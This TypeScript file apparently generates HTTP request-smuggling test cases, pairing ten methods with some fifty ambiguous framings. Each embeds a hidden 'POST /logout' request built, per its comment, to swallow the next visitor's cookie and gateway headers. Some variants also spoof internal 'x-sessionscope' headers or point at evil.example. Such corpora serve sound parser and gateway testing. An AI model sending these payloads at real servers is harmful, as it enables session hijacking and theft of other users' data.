/** Requests that say in many ways where they end; each has the beginning of another request in its body, for whoever believes otherwise. */

/** Node's parser knows no other custom method than those that are registered. */
const METHODS = ['GET', 'HEAD', 'DELETE', 'OPTIONS', 'TRACE', 'POST', 'PUT', 'PATCH', 'PROPFIND', 'BREW'] as const

/** The beginning of a request that would swallow the next visitor's first line, and take his cookie and all that the gateway says of him. */
const BODY = 'POST /logout HTTP/1.1\r\nHost: x\r\nX-Swallowed: '
const LENGTH = `Content-Length: ${BODY.length}`
const CHUNKED = 'Transfer-Encoding: chunked'
const CHUNKS = `${BODY.length.toString(16)}\r\n${BODY}\r\n0\r\n\r\n`

interface Framing {
  readonly name: string
  readonly headers: readonly string[]
  readonly body: string
  readonly version?: '1.0'
  readonly target?: string
}

const FRAMINGS: readonly Framing[] = [
  { name: 'chunked', headers: [CHUNKED], body: CHUNKS },
  { name: 'chunked, in other letters', headers: ['tRANSFER-eNCODING: ChUnKeD'], body: CHUNKS },
  { name: 'chunked that Connection names', headers: [CHUNKED, 'Connection: transfer-encoding'], body: CHUNKS },
  { name: 'chunked with extensions', headers: [CHUNKED], body: CHUNKS.replace('\r\n', ';a=b;c="d"\r\n') },
  {
    name: 'chunked with trailers',
    headers: [CHUNKED, 'Trailer: X-A'],
    body: `${CHUNKS.slice(0, -2)}X-A: b\r\nContent-Length: 0\r\nX-Sessionscope-Actor: crowd\r\n\r\n`,
  },
  { name: 'chunked with TE', headers: [CHUNKED, 'TE: trailers', 'Connection: TE'], body: CHUNKS },
  { name: 'a length', headers: [LENGTH], body: BODY },
  { name: 'a length that Connection names', headers: [LENGTH, 'Connection: content-length'], body: BODY },
  { name: 'a length among others that Connection names', headers: [LENGTH, 'Connection: keep-alive, CONTENT-LENGTH , x'], body: BODY },
  { name: 'a length that a second Connection names', headers: [LENGTH, 'Connection: keep-alive', 'Connection: content-length'], body: BODY },
  { name: 'a length with Connection: host', headers: [LENGTH, 'Connection: host'], body: BODY },
  { name: 'a length with Connection: cookie', headers: [LENGTH, 'Connection: cookie'], body: BODY },
  { name: 'chunked, internal headers named', headers: [CHUNKED, 'Connection: x-sessionscope-key, x-sessionscope-actor'], body: CHUNKS },
  { name: 'internal headers sent', headers: [LENGTH, 'X-SESSIONSCOPE-KEY: guess', 'x-sessionscope-actor: crowd', 'X-Sessionscope-Request: r1'], body: BODY },
  { name: 'a length, then chunked', headers: [LENGTH, CHUNKED], body: CHUNKS },
  { name: 'chunked, then a length', headers: [CHUNKED, LENGTH], body: CHUNKS },
  { name: 'a length of nothing, then chunked', headers: ['Content-Length: 0', CHUNKED], body: CHUNKS },
  { name: 'a length of nothing', headers: ['Content-Length: 0'], body: '' },
  { name: 'the same length twice', headers: [LENGTH, LENGTH], body: BODY },
  { name: 'two lengths', headers: [LENGTH, 'Content-Length: 0'], body: BODY },
  { name: 'a list of lengths', headers: [`Content-Length: ${BODY.length}, ${BODY.length}`], body: BODY },
  { name: 'a length with a sign', headers: [`Content-Length: +${BODY.length}`], body: BODY },
  { name: 'a length in hexadecimal', headers: [`Content-Length: 0x${BODY.length.toString(16)}`], body: BODY },
  { name: 'a length after blanks', headers: [`Content-Length: \t ${BODY.length} `], body: BODY },
  { name: 'chunked twice', headers: [CHUNKED, CHUNKED], body: CHUNKS },
  { name: 'chunked twice in one', headers: ['Transfer-Encoding: chunked, chunked'], body: CHUNKS },
  { name: 'gzip, then chunked', headers: ['Transfer-Encoding: gzip, chunked'], body: CHUNKS },
  { name: 'gzip, then chunked, in two', headers: ['Transfer-Encoding: gzip', CHUNKED], body: CHUNKS },
  { name: 'chunked, then identity', headers: [CHUNKED, 'Transfer-Encoding: identity'], body: CHUNKS },
  { name: 'identity and a length', headers: ['Transfer-Encoding: identity', LENGTH], body: BODY },
  { name: 'an unknown coding', headers: ['Transfer-Encoding: xchunked'], body: CHUNKS },
  { name: 'an unknown coding and a length', headers: ['Transfer-Encoding: xchunked', LENGTH], body: BODY },
  { name: 'chunked after a tab', headers: ['Transfer-Encoding:\tchunked'], body: CHUNKS },
  { name: 'chunked after a vertical tab', headers: ['Transfer-Encoding: \vchunked', LENGTH], body: BODY },
  { name: 'chunked before the colon', headers: ['Transfer-Encoding : chunked', LENGTH], body: BODY },
  { name: 'chunked on a line of its own', headers: ['Transfer-Encoding:\r\n chunked'], body: CHUNKS },
  { name: 'chunked in quotes', headers: ['Transfer-Encoding: "chunked"', LENGTH], body: BODY },
  { name: 'chunked behind a bare line feed', headers: [`X-A: b\n${CHUNKED}`], body: CHUNKS },
  { name: 'an underscore', headers: ['Transfer_Encoding: chunked', LENGTH], body: BODY },
  { name: 'Expect and a length', headers: ['Expect: 100-continue', LENGTH], body: BODY },
  { name: 'Expect and chunked', headers: ['Expect: 100-continue', CHUNKED], body: CHUNKS },
  { name: 'Expect something else', headers: ['Expect: a-miracle', LENGTH], body: BODY },
  { name: 'Upgrade and a length', headers: ['Upgrade: h2c', 'Connection: Upgrade, HTTP2-Settings', 'HTTP2-Settings: x', LENGTH], body: BODY },
  { name: 'Upgrade and chunked', headers: ['Upgrade: websocket', 'Connection: Upgrade', CHUNKED], body: CHUNKS },
  { name: 'Upgrade and no body', headers: ['Upgrade: websocket', 'Connection: Upgrade'], body: BODY },
  { name: 'HTTP/1.0 and chunked', headers: ['Connection: keep-alive', CHUNKED], body: CHUNKS, version: '1.0' },
  { name: 'HTTP/1.0 and a length', headers: ['Connection: keep-alive', LENGTH], body: BODY, version: '1.0' },
  { name: 'two Hosts', headers: ['Host: evil.example', LENGTH], body: BODY },
  { name: 'a target elsewhere', headers: [CHUNKED], body: CHUNKS, target: 'http://evil.example/' },
  { name: 'a request behind it', headers: [CHUNKED], body: `${CHUNKS}GET /me HTTP/1.1\r\nHost: HOST\r\n\r\n` },
  { name: 'a request in front of it', headers: [CHUNKED], body: CHUNKS, target: '/ HTTP/1.1\r\nHost: HOST\r\n\r\nGET /' },
  { name: 'two cookies', headers: ['Cookie: a=1', 'Cookie: b=2', CHUNKED], body: CHUNKS },
  { name: 'a body that is answered before it has come', headers: ['Content-Length: 1000000'], body: BODY },
]

export interface Shape {
  readonly name: string
  readonly method: string
  readonly framing: string
  /** @param host of the server that it is sent to */
  bytes(host: string): string
}

export const SHAPES: readonly Shape[] = METHODS.flatMap((method) =>
  FRAMINGS.map(({ name, headers, body, version = '1.1', target = '/me' }) => ({
    name: `${method} with ${name}`,
    method,
    framing: name,
    bytes: (host: string) =>
      `${method} ${target} HTTP/${version}\r\nHost: HOST\r\n${headers.map((line) => `${line}\r\n`).join('')}\r\n${body}`.replaceAll('HOST', host),
  })),
)
